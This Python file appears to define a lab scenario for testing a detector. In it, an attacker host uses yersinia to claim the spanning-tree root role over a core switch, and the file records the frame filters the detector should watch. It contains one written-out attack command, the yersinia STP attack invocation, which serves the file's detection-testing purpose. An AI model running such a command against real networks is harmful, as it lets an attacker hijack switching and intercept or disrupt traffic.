"""yersinia becomes root of the spanning tree."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    core = net.core_switch()
    attacker = net.inside("attacker")
    net.everyday()
    net.quiet(6)
    with net.attack(
        "stp-root-takeover",
        by=attacker,
        victims=[core.mac],
        attacker_known=False,
        frames="ether dst 01:80:c2:00:00:00",
        responses=f"ether src {core.mac} and ether dst 01:80:c2:00:00:00",
    ):
        net.tool(attacker, "sh", "-c", "sleep 14 | yersinia stp -attack 4 -interface eth0", seconds=18)
    net.quiet(4)


SCENARIO = Scenario(
    name="stp-root-takeover-yersinia",
    about="yersinia claims to be a better root of the spanning tree than the switch that is it.",
    detectors=("stp-root-takeover",),
    tools={"yersinia": "yersinia"},
    run=run,
)
